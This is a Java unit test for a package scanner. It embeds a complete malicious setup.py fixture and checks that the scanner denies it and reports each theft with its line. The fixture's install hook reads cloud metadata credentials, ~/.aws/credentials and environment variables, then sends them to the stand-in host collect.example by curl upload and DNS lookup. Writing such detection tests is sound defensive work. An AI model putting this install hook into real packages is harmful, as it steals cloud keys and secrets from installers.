package dev.assay.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// A theft of the keys of cloud machines while one installs, written after descriptions of the
/// packages that this project began with; inert, for nothing answers at a reserved name (RFC 2606).
class CloudTheftTest {
  private static final String SETUP =
      """
      import base64
      import json
      import os
      import socket
      import subprocess
      import uuid

      from setuptools import setup
      from setuptools.command.install import install

      ROLES = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
      UPLOAD = "http://collect.example:8000/upload"


      def run(command):
          process = subprocess.Popen(command, shell=True, stdout=subprocess.PIPE)
          out, _ = process.communicate()
          return out.decode()


      def metadata():
          try:
              role = run("curl -s --max-time 3 " + ROLES).strip()
              return json.loads(run("curl -s --max-time 3 " + ROLES + role))
          except Exception:
              return {}


      def gather():
          found = {
              "host": socket.gethostname(),
              "env": dict(os.environ),
              "net": run("ifconfig || ip addr"),
              "role": metadata(),
          }
          try:
              with open(os.path.expanduser("~/.aws/credentials")) as handle:
                  found["aws"] = handle.read()
          except OSError:
              pass
          return json.dumps(found)


      class Install(install):
          def run(self):
              install.run(self)
              name = "/tmp/" + uuid.uuid4().hex + ".txt"
              with open(name, "w") as handle:
                  handle.write(gather())
              subprocess.call("curl -s -F file=@" + name + " " + UPLOAD, shell=True)
              label = base64.b32encode(socket.gethostname().encode()).decode().strip("=")
              socket.gethostbyname(label + ".i.collect.example")


      setup(name="cloud-log", version="1.0", packages=[], cmdclass={"install": Install})
      """;

  @TempDir private Path home;
  @TempDir private Path folder;

  @Test
  void itIsDeniedAndEachThingItTakesIsNamedWithItsLine() throws IOException {
    Files.writeString(folder.resolve("setup.py"), SETUP);
    Run run = Run.in(folder, home, "scan", "--explain", "setup.py");
    assertThat(run.code()).isEqualTo(1);
    assertThat(run.out()).startsWith("deny");
    String text = run.out().replaceAll("\\s+", " ");
    assertThat(text)
        .contains("install: reads secret ~/.aws/credentials [credential file] (setup.py:37)")
        .contains("install: reads secret http://169.254.169.254/latest/meta-data/iam/")
        .contains("[cloud metadata] (setup.py:16)")
        .containsPattern("install: \\w+ \\S[^\\[]*collect.example[^\\[]*\\[environment,")
        .contains("curl -s -F file=@/tmp/….txt http://collect.example:8000/upload")
        .contains("in a name that is asked for, `….i.collect.example`")
        .contains("(setup.py:52)");
  }
}
